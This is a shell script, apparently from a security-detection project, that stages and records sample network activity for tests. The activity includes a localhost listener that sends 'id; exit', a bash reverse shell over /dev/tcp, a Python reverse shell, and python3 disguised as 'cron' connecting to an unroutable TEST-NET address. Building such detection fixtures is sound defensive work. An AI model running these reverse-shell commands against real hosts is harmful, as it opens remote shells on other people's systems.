#!/bin/sh
# samples/record-network.sh -- records samples/network.skr: an attacker's
# listener on 127.0.0.1 that sends "id; exit" to whoever connects; a bash
# reverse shell to it (bash -i >& /dev/tcp/...), then a python one
# (socket, dup2 onto 0/1/2, exec sh -i); a program named cron (python3
# run through a link called cron) opening a TCP connection to 203.0.113.7
# (TEST-NET-3, never routed: the SYN goes nowhere). Background: python3
# itself connecting to the same address and to the listener's port, curl.
# Run as root from the project root: sh samples/record-network.sh
# shellcheck source=samples/lib-record.sh
. "$(dirname "$0")/lib-record.sh"
mkdir -p "$work/bin"
ln -s /usr/bin/python3 "$work/bin/cron"

cat > "$work/scenario.sh" <<'SCRIPT'
act="python3 $SAMPLES/sk_act.py"
python3 -c '
import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(3)
with open(sys.argv[1], "w") as f:
    f.write("%d\n" % s.getsockname()[1])
s.settimeout(20)
for _ in range(3):
    c, _ = s.accept(); c.sendall(b"id\nexit\n")
    while c.recv(1024):
        pass
    c.close()
' "$WORK/port" &
i=0; while [ ! -s "$WORK/port" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
port=$(cat "$WORK/port")
# background: a client that just talks to the listener, an outbound
# connection by a program that does network work
python3 -c 'import socket, sys; s = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); s.recv(64); s.close()' "$port"
$act connect 203.0.113.7 443
# reverse shells
bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2> /dev/null
$act revshell 127.0.0.1 "$port" 2> /dev/null
# an implant named after a system binary
"$WORK/bin/cron" "$SAMPLES/sk_act.py" connect 203.0.113.7 443
wait
SCRIPT
sample_record network "$work/scenario.sh"
